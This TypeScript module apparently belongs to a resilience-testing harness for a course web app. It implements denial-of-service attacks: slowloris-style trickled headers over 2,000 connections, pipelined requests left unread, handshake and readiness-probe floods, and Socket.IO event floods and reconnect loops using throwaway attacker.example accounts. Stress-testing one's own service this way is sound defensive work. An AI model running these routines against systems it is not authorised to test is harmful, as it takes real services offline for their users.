import { createConnection } from 'node:net'
import { WebSocket } from 'ws'
import { type Attack, keepBusy, pause, type Target } from '../lib/attack.ts'
import { signUp } from '../lib/call.ts'

/** A bare connection that writes `text` at once and again every `everyMs`, and reads nothing where `read` is false. Resolves when it ends. */
function hang(
  target: Target,
  signal: AbortSignal,
  how: { text: string; again?: string; everyMs?: number; read: boolean },
): Promise<void> {
  const { hostname, port } = new URL(target.origin)
  return new Promise((resolve) => {
    const socket = createConnection({ host: hostname, port: Number(port), localAddress: target.from })
    target.count('opened')
    if (!how.read) socket.pause()
    else
      socket.once('data', (data) => {
        const status = /^HTTP\/1\.1 (\d{3})/.exec(data.toString('latin1'))?.[1]
        if (status) target.count(`HTTP ${status}`)
      })
    socket.write(how.text)
    const again = how.again === undefined ? undefined : setInterval(() => socket.write(how.again ?? ''), how.everyMs)
    const stop = () => socket.destroy()
    signal.addEventListener('abort', stop, { once: true })
    socket.on('error', () => undefined)
    socket.on('close', () => {
      clearInterval(again)
      signal.removeEventListener('abort', stop)
      if (!signal.aborted) target.count('cut off')
      void pause(100, signal).then(resolve)
    })
  })
}

export const halfHeaders: Attack = {
  name: 'half-headers',
  what: '2,000 connections whose headers come a few bytes every 3 s',
  arm: async (target) => (signal) =>
    keepBusy(2000, signal, () =>
      hang(target, signal, { text: 'GET / HTTP/1.1\r\nx-a: ', again: 'b', everyMs: 3000, read: true }),
    ),
}

/** Requests of one connection, sent without waiting for an answer. */
const pipelined = ({ origin }: Target, path: string, count: number) =>
  `GET ${path} HTTP/1.1\r\nhost: ${new URL(origin).host}\r\n\r\n`.repeat(count)

const unread = (name: string, what: string, path: string): Attack => ({
  name,
  what,
  arm: async (target) => (signal) =>
    keepBusy(300, signal, () => hang(target, signal, { text: pipelined(target, path, 50), read: false })),
})

export const unreadPages = unread(
  'unread-pages',
  '300 connections that ask 50 times for the home page and read nothing',
  '/',
)
export const unreadCatalogue = unread(
  'unread-catalogue',
  'the same with the whole catalogue',
  '/api/course/getpublishedcoures',
)

export const pollingHandshakes: Attack = {
  name: 'polling',
  what: '50 first requests of sockets over HTTP at a time, none of which goes on',
  arm: async (target) => (signal) =>
    keepBusy(50, signal, () => target.send({ path: '/socket.io/?EIO=4&transport=polling', signal })),
}

export const readiness: Attack = {
  name: 'readiness',
  what: '50 questions at a time whether the server is ready, and for the description of the API',
  arm: async (target) => (signal) =>
    keepBusy(50, signal, (lane) => target.send({ path: lane % 2 === 0 ? '/readyz' : '/api/openapi.json', signal })),
}

/** One connection that speaks just enough of Socket.IO; null when the server did not let it in. */
function connect(target: Target, cookie: string): Promise<WebSocket | null> {
  const address = `${target.origin.replace(/^http/, 'ws')}/socket.io/?EIO=4&transport=websocket`
  const socket = new WebSocket(address, {
    headers: cookie === '' ? {} : { cookie },
    localAddress: target.from,
    perMessageDeflate: false,
  })
  return new Promise((resolve) => {
    const rejected = (what: string) => {
      target.count(what)
      socket.terminate()
      resolve(null)
    }
    const timer = setTimeout(() => rejected('no answer'), 5000)
    socket.on('error', () => undefined)
    socket.on('unexpected-response', (_request, response) => rejected(`${response.statusCode}`))
    socket.on('close', () => {
      clearTimeout(timer)
      resolve(null)
    })
    socket.on('message', (data) => {
      const text = data.toString()
      if (text.startsWith('44')) return rejected('rejected')
      if (text.startsWith('40')) {
        clearTimeout(timer)
        target.count('accepted')
        resolve(socket)
      } else if (text.startsWith('0')) socket.send('40')
      else if (text === '2') socket.send('3')
    })
  })
}

export const socketEvents: Attack = {
  name: 'socket-events',
  what: '20 sockets of one account send events of unknown names, as fast as they are taken',
  async arm(target) {
    const cookie = await signUp(target.origin, target.from, 'events@attacker.example')
    return (signal) =>
      keepBusy(20, signal, async () => {
        const socket = await connect(target, cookie)
        if (!socket) return pause(100, signal)
        while (!signal.aborted && socket.readyState === WebSocket.OPEN) {
          for (let count = 0; count < 100; count++) socket.send(`42["unknown-${count}",{"text":"nothing"}]`)
          target.count('events', 100)
          while (socket.bufferedAmount > 65_536 && !signal.aborted && socket.readyState === WebSocket.OPEN)
            await pause(2, signal)
          await pause(1, signal)
        }
        if (!signal.aborted) target.count('cut off')
        socket.terminate()
      })
  },
}

const loop = (name: string, what: string, signedIn: boolean): Attack => ({
  name,
  what,
  async arm(target) {
    const cookie = signedIn ? await signUp(target.origin, target.from, `${name}@attacker.example`) : ''
    return (signal) => keepBusy(50, signal, async () => (await connect(target, cookie))?.terminate())
  },
})

export const socketLoop = loop('socket-loop', '50 sockets of one account that connect and leave, over and over', true)
export const strangerSockets = loop('socket-strangers', 'the same without an account', false)
